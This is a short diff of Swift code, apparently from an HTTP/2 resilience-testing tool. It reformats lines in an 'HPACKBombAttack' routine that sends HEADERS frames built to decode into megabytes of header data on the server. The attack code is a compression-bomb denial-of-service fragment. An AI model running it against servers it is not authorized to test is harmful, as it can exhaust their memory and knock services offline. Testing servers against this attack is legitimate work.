@@ -35,8 +35,9 @@ struct HPACKBombAttack: BlockingAttacker {
             for i in 0..<Self.blocksPerConnection {
                 guard connection.isOpen, !context.isOver, connection.reader.goAway == nil else { break }
                 var frame: [UInt8] = []
-                H2Frames.appendHeaders(stream: stream, fragment: i == 0 ? first.bytes : later.bytes,
-                                       endStream: true, endHeaders: true, to: &frame)
+                H2Frames.appendHeaders(
+                    stream: stream, fragment: i == 0 ? first.bytes : later.bytes,
+                    endStream: true, endHeaders: true, to: &frame)
                 connection.send(frame)
                 report.streamsSent += 1
                 let id = stream
@@ -48,7 +49,8 @@ struct HPACKBombAttack: BlockingAttacker {
             connection.close()
         }
         let decodedMB = Double(references * (Self.valueSize + 6)) / 1e6
-        report.notes.append(String(format: "first block: %d refs to a %d-byte field (%.0f MB decoded)", references, Self.valueSize, decodedMB))
+        report.notes.append(
+            String(format: "first block: %d refs to a %d-byte field (%.0f MB decoded)", references, Self.valueSize, decodedMB))
         return report
     }
 }
